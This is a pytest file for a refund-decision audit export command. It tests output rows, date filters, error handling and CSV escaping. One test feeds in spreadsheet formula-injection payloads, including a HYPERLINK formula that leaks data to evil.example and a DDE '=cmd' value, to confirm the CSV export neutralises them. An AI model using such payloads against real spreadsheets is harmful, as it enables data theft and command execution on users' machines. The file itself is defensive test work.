"""`python -m serving export-decisions`: the audit log as a table a risk analyst can read."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from serving.__main__ import app as cli
from serving.config import Settings
from serving.export import FORMULA_STARTS, csv_safe
from tests.serving.conftest import DAY, DECIDER, Clock, body

URL = "/v1/refund-decisions"


def _decide(client: TestClient, payload: dict) -> None:
    assert client.post(URL, json=payload, headers=DECIDER).status_code == 200


@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_every_decision_is_one_row_with_its_reasons_amount_and_versions(
    client: TestClient, settings: Settings, clock: Clock, tmp_path: Path, suffix: str
) -> None:
    _decide(client, body("EX1"))
    _decide(client, body("EX1"))  # a replay is not a new decision
    _decide(client, body("EX2", paid_amount="300.00", category="gift_cards"))
    clock.now += 2 * DAY
    _decide(client, body("EX3", paid_amount="5"))
    out = tmp_path / f"decisions{suffix}"
    args = ["export-decisions", "--out", str(out), "--audit", str(settings.audit_path)]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    assert "3 decisions, 2 auto-approved" in result.output
    frame = (
        pd.read_parquet(out) if suffix == ".parquet" else pd.read_csv(out, keep_default_na=False)
    )
    assert frame["refund_id"].tolist() == ["EX1", "EX2", "EX3"]
    assert frame["decision"].tolist() == ["auto_approve", "manual_review", "auto_approve"]
    assert frame["reasons"].tolist() == ["", "AMOUNT_NOT_BELOW_LIMIT,CATEGORY_EXCLUDED", ""]
    assert frame["paid_fen"].tolist() == [29_999, 30_000, 500]  # body() pays 299.99
    assert set(frame["policy_version"]) == {"2025-06-01.1"}
    assert frame["model_version"].astype(str).tolist() == ["7", "7", "7"]

    day = pd.Timestamp(clock.now, unit="s", tz="UTC").strftime("%Y-%m-%d")
    later = tmp_path / "later.parquet"
    result = CliRunner().invoke(cli, [*args[:1], "--out", str(later), *args[3:], "--since", day])
    assert result.exit_code == 0, result.output
    assert pd.read_parquet(later)["refund_id"].tolist() == ["EX3"]
    result = CliRunner().invoke(cli, [*args[:1], "--out", str(later), *args[3:], "--until", day])
    assert pd.read_parquet(later)["refund_id"].tolist() == ["EX1", "EX2", "EX3"]


def test_bad_arguments_exit_2_and_write_nothing(tmp_path: Path) -> None:
    out = tmp_path / "d.parquet"
    runs = {
        "no audit log at": ["--audit", str(tmp_path / "none.db")],
        "is not a date": ["--audit", str(tmp_path / "none.db"), "--since", "last week"],
    }
    for message, extra in runs.items():
        result = CliRunner().invoke(cli, ["export-decisions", "--out", str(out), *extra])
        assert result.exit_code == 2 and message in result.output
    result = CliRunner().invoke(cli, ["export-decisions", "--out", str(tmp_path / "d.xlsx")])
    assert result.exit_code == 2 and "must end in .parquet or .csv" in result.output
    assert not out.exists() and not (tmp_path / "none.db").exists()


def test_a_range_with_no_decision_writes_an_empty_table(
    client: TestClient, settings: Settings, tmp_path: Path
) -> None:
    _decide(client, body("EM1"))
    out = tmp_path / "none.parquet"
    args = ["export-decisions", "--out", str(out), "--audit", str(settings.audit_path)]
    result = CliRunner().invoke(cli, [*args, "--since", "2099-01-01"])
    assert result.exit_code == 0, result.output
    assert "0 decisions" in result.output
    frame = pd.read_parquet(out)
    assert frame.empty and list(frame.columns)[:3] == ["refund_id", "decided_at", "decision"]
    result = CliRunner().invoke(cli, [*args, "--since", "2025-W23-1"])  # an ISO week date
    assert result.exit_code == 0, result.output


def test_a_csv_export_escapes_cells_a_spreadsheet_would_run(
    client: TestClient, settings: Settings, tmp_path: Path
) -> None:
    # Ids and categories are the caller's: each of these starts a formula in a spreadsheet.
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _decide(client, body(link))
    _decide(client, body("+SUM(1)", category="@SUM(A1:A9)"))
    _decide(client, body("-2+3", buyer_id="=cmd|'/c'!A0"))
    _decide(client, body("plain-id"))  # a "-" inside a cell is no formula
    args = ["export-decisions", "--audit", str(settings.audit_path), "--out"]
    assert CliRunner().invoke(cli, [*args, str(tmp_path / "d.csv")]).exit_code == 0
    assert CliRunner().invoke(cli, [*args, str(tmp_path / "d.parquet")]).exit_code == 0
    text = (tmp_path / "d.csv").read_text()
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), text
    written = pd.read_csv(tmp_path / "d.csv", keep_default_na=False)
    assert set(written["refund_id"]) == {f"'{link}", "'+SUM(1)", "'-2+3", "plain-id"}
    assert "'@SUM(A1:A9)" in set(written["category"])
    assert "'=cmd|'/c'!A0" in set(written["buyer_id"])
    # Parquet is read by programs, not spreadsheets: the values as they were.
    parquet = pd.read_parquet(tmp_path / "d.parquet")
    assert set(parquet["refund_id"]) == {link, "+SUM(1)", "-2+3", "plain-id"}
    assert written["paid_fen"].tolist() == parquet["paid_fen"].tolist()  # numbers unchanged


def test_csv_safe_escapes_tab_and_carriage_return_and_leaves_numbers() -> None:
    frame = pd.DataFrame(
        {"text": ["\tTAB", "\rCR", "ok", None, "'quoted"], "number": [-1.5, 2.0, -3.0, 0.0, 1.0]}
    )
    safe = csv_safe(frame)
    cells = safe["text"].tolist()
    assert cells[:3] == ["'\tTAB", "'\rCR", "ok"] and pd.isna(cells[3]) and cells[4] == "'quoted"
    assert safe["number"].tolist() == frame["number"].tolist()
    assert frame["text"].tolist()[0] == "\tTAB"  # the frame given is not changed
